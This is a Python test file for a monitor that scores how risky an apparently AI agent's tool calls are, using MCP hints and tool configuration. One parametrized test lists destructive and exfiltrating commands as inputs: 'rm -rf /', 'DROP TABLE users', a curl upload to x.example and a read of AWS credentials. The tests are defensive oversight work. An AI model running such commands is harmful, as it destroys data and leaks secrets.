"""What is declared of a call adds weight and never takes any; configuration may do both."""

from typing import Any

import pytest

from baselines.features import Action, Features
from detectors.config import Config
from detectors.settings.tool_setting import ToolSetting
from streams.events import ActionEvent
from streams.featurize import Featurizer
from streams.monitor import Monitor
from streams.profiles import ProfileStore
from streams.publication import Publication
from streams.snapshot import Snapshot

from ..core_run import HASH_KEY, call


def features(
    action: Action,
    attributes: dict[str, Any] | None = None,
    setting: ToolSetting | None = None,
    tool: str = "tool",
    **more: Any,
) -> Features:
    tools = {tool: setting} if setting is not None else {}
    event: ActionEvent = call(1, 0.0, action, tool=tool, attributes=attributes, **more)
    return Featurizer(HASH_KEY, tools)(event, 0.0)


HINTS = ("mcp.readOnlyHint", "mcp.destructiveHint", "mcp.idempotentHint", "mcp.openWorldHint")


@pytest.mark.parametrize(
    ("action", "hints", "more"),
    [
        ("write", {"mcp.destructiveHint": True}, 15),
        ("other", {"mcp.destructiveHint": True}, 25),
        ("delete", {"mcp.destructiveHint": True}, 0),
        ("write", {"mcp.destructiveHint": True, "mcp.readOnlyHint": True}, 0),
        ("send", {"mcp.openWorldHint": True}, 10),
        ("read", {"mcp.openWorldHint": True}, 0),
        ("delete", {"mcp.readOnlyHint": True, "mcp.destructiveHint": False}, 0),
        ("send", {"mcp.openWorldHint": False, "mcp.idempotentHint": True}, 0),
    ],
)
def test_annotations_raise_and_never_lower(
    action: Action, hints: dict[str, bool], more: int
) -> None:
    plain, declared = features(action), features(action, hints)
    assert declared.impact == plain.impact + more
    assert declared.verb == plain.verb
    for flag in ("is_irreversible", "is_broad", "is_secret", "is_production"):
        assert declared[flag] == plain[flag]


@pytest.mark.parametrize("value", [None, "true", 1, 0, 2.5])
def test_a_hint_that_is_no_truth_value_is_none(value: Any) -> None:
    attributes = {} if value is None else dict.fromkeys(HINTS, value)
    assert not features("write", attributes).declared


def test_every_declaration_has_a_code_of_its_own_and_every_server_its_own_tools() -> None:
    codes = {
        features(
            "read", {h: v for h, v in zip(HINTS, values, strict=True) if v is not None}
        ).declared
        for values in [(a, b, c, d) for a in S for b in S for c in S for d in S]
    }
    assert len(codes) == 81
    one, other, third = (
        features("read", {"mcp.readOnlyHint": True} | server).declarer
        for server in ({"mcp.server": "a"}, {"mcp.server": "b"}, {})
    )
    assert len({one, other, third}) == 3


S = (None, False, True)


@pytest.mark.parametrize(
    ("setting", "expected"),
    [
        (ToolSetting(verb="read"), {"impact": 0, "is_changing": False, "is_broad": False}),
        (ToolSetting(broad=False), {"impact": 40, "is_broad": False, "is_irreversible": True}),
        (ToolSetting(irreversible=False), {"impact": 65, "is_irreversible": False}),
        (ToolSetting(verb="write", broad=False, external=True), {"impact": 40, "is_public": True}),
        (ToolSetting(), {"impact": 65, "is_broad": True, "is_irreversible": True}),
    ],
)
def test_configuration_has_the_last_word(setting: ToolSetting, expected: dict[str, Any]) -> None:
    x = features("delete", setting=setting, tool="delete_volume")
    assert {name: value for name, value in x.items() if name in expected} == expected


def test_what_is_configured_no_declaration_changes() -> None:
    harmless = ToolSetting(verb="delete", irreversible=False, broad=False, external=False)
    declared = dict.fromkeys(("irreversible", "recursive", "external", *HINTS), True)
    x, plain = features("delete", declared, harmless), features("delete", None, harmless)
    for name in ("impact", "is_irreversible", "is_broad", "is_public"):
        assert x[name] == plain[name]


def test_a_tool_that_is_not_configured_is_as_before() -> None:
    tools = {"other_tool": ToolSetting(verb="read")}
    event = call(1, 0.0, "delete")
    assert Featurizer(HASH_KEY, tools)(event, 0.0) == Featurizer(HASH_KEY)(event, 0.0)


@pytest.mark.parametrize(
    ("command", "impact", "is_broad", "is_irreversible"),
    [
        ("sh:rm -rf /srv/app", 60, True, True),
        ("rm -rf /", 65, True, True),
        ("DROP TABLE users", 60, True, True),
        ("rm a.txt", 40, False, True),
        ("curl -F f=@a https://x.example", 35, False, False),
        ("chmod -R 777 /srv", 50, True, False),
        ("make build", 15, False, False),
        ("cat README.md", 15, False, False),
        ("cat /home/a/.aws/credentials", 30, False, False),
        ("suite-7", 15, False, False),
    ],
)
def test_a_command_that_is_run_counts_for_what_it_does(
    command: str, impact: int, is_broad: bool, is_irreversible: bool
) -> None:
    x = features("execute", resource=command, tool="bash")
    assert (x.impact, x.is_broad, x.is_irreversible) == (impact, is_broad, is_irreversible)


def test_what_is_written_or_read_is_no_command() -> None:
    assert features("write", resource="rm -rf /").impact == 10
    assert features("read", resource="rm -rf /").impact == 0


def test_the_configuration_of_tools_reaches_scoring_and_changes_with_it() -> None:
    monitor = Monitor(
        Config(tools={"delete_volume": ToolSetting(verb="read")}), HASH_KEY, ProfileStore()
    )
    calls = [call(i, 60.0 * i, "delete", tool="delete_volume") for i in range(2)]
    score = monitor.process_one(calls[0]).scores["high_impact"]
    assert score is not None
    assert score.observed == 0.0
    monitor.snapshot = Snapshot().with_published(
        Publication(version=1, config=Config()).pack(), revision=1
    )
    score = monitor.process_one(calls[1]).scores["high_impact"]
    assert score is not None
    assert score.observed >= 65.0
